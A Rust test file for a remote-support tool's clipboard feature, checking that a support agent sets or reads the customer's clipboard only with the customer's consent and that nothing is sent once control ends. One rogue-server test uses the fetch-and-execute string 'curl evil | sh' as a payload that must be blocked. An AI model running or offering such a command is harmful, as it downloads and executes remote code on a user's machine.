//! Clipboard text both ways: set only while the customer allows control, read only after the
//! customer's yes in the helper, and nothing of it once control ended.

use super::*;

fn clipboard_actions(actions: &[Action]) -> Vec<Action> {
    actions
        .iter()
        .filter(|a| {
            matches!(
                a,
                Action::SetClipboard(_)
                    | Action::AskClipboard(_)
                    | Action::ReadClipboard
                    | Action::Control(_)
            )
        })
        .cloned()
        .collect()
}

fn asked(actions: &[Action]) -> ClipboardQuestion {
    actions
        .iter()
        .find_map(|a| match a {
            Action::AskClipboard(Some(q)) => Some(q.clone()),
            _ => None,
        })
        .unwrap_or_else(|| panic!("no clipboard question in {actions:?}"))
}

#[test]
fn a_rogue_server_cannot_set_or_read_the_clipboard_without_the_customers_ok() {
    let mut s = session();
    // Control "started" that the customer never allowed in the helper.
    started(&mut s, "control_desktop");
    let a = control(
        &mut s,
        json!({"t": "clipboard_set", "text": "curl evil | sh"}),
    );
    assert_eq!(
        clipboard_actions(&a),
        vec![],
        "nothing is put on the clipboard"
    );
    let a = control(&mut s, json!({"t": "clipboard_get"}));
    assert_eq!(
        clipboard_actions(&a),
        vec![],
        "the customer is not even asked"
    );
    // Nor does an answer nobody was asked for, or a "read" nobody ordered, send anything.
    let a = s.handle(Event::ClipboardAnswer { id: 1, send: true });
    assert_eq!(clipboard_actions(&a), vec![]);
    let a = s.handle(Event::ClipboardRead(ClipboardReply::Text("secret".into())));
    assert_eq!(clipboard_actions(&a), vec![]);
    assert_eq!(s.refused()["not_allowed"], 2);
}

#[test]
fn with_control_allowed_the_csr_sets_the_clipboard_and_the_customer_is_told() {
    let mut s = session();
    viewing_and_controlled(&mut s);
    let a = control(
        &mut s,
        json!({"t": "clipboard_set", "text": "hello\nthere"}),
    );
    assert_eq!(
        clipboard_actions(&a),
        vec![Action::SetClipboard("hello\nthere".into())]
    );
    assert!(
        a.contains(&Action::Notice(
            "Carol put text on your clipboard (11 characters)".into()
        )),
        "{a:?}"
    );
    // Bad input sets nothing.
    let a = control(&mut s, json!({"t": "clipboard_set", "text": "a\u{7}"}));
    assert_eq!(clipboard_actions(&a), vec![]);
    assert_eq!(s.refused()["control_bad_clipboard"], 1);
}

#[test]
fn the_clipboard_is_read_and_sent_only_after_the_customers_yes() {
    let mut s = session();
    viewing_and_controlled(&mut s);
    let q = asked(&control(&mut s, json!({"t": "clipboard_get"})));
    assert_eq!(q.words(), "Carol asks for the text you copied: send it?");
    assert_eq!(s.clipboard_question(), Some(&q));
    // A second request while the first is unanswered is refused, not queued.
    assert!(clipboard_actions(&control(&mut s, json!({"t": "clipboard_get"}))).is_empty());
    assert_eq!(s.refused()["clipboard_pending"], 1);
    // No: the CSR is told, with no text.
    let a = s.handle(Event::ClipboardAnswer {
        id: q.id,
        send: false,
    });
    assert_eq!(
        clipboard_actions(&a),
        vec![
            Action::AskClipboard(None),
            Action::Control(br#"{"t":"clipboard","none":"declined"}"#.to_vec())
        ]
    );
    // Yes: read, then sent.
    let q = asked(&control(&mut s, json!({"t": "clipboard_get"})));
    let a = s.handle(Event::ClipboardAnswer {
        id: q.id,
        send: true,
    });
    assert_eq!(
        clipboard_actions(&a),
        vec![Action::AskClipboard(None), Action::ReadClipboard]
    );
    let a = s.handle(Event::ClipboardRead(ClipboardReply::Text("copied".into())));
    assert_eq!(
        clipboard_actions(&a),
        vec![Action::Control(
            br#"{"t":"clipboard","text":"copied"}"#.to_vec()
        )]
    );
    // The same answer twice sends nothing more.
    let a = s.handle(Event::ClipboardAnswer {
        id: q.id,
        send: true,
    });
    assert_eq!(clipboard_actions(&a), vec![]);
}

#[test]
fn stop_withdraws_the_question_and_a_read_in_course_sends_nothing() {
    let mut s = session();
    viewing_and_controlled(&mut s);
    asked(&control(&mut s, json!({"t": "clipboard_get"})));
    // The CSR's console losing focus releases keys, and leaves the question alone.
    let a = control(&mut s, json!({"t": "release_all"}));
    assert_eq!(clipboard_actions(&a), vec![]);
    assert!(s.clipboard_question().is_some());
    let a = s.handle(Event::Stop);
    assert!(a.contains(&Action::AskClipboard(None)), "{a:?}");
    assert_eq!(s.clipboard_question(), None);

    // Yes, then control stops elsewhere while the clipboard is read: nothing goes out.
    let mut s = session();
    viewing_and_controlled(&mut s);
    let q = asked(&control(&mut s, json!({"t": "clipboard_get"})));
    s.handle(Event::ClipboardAnswer {
        id: q.id,
        send: true,
    });
    event(
        &mut s,
        json!({"type": "activity_stopped", "activity": "control_desktop", "customer": DAVE, "cause": "stopped"}),
    );
    let a = s.handle(Event::ClipboardRead(ClipboardReply::Text("late".into())));
    assert_eq!(clipboard_actions(&a), vec![]);
}
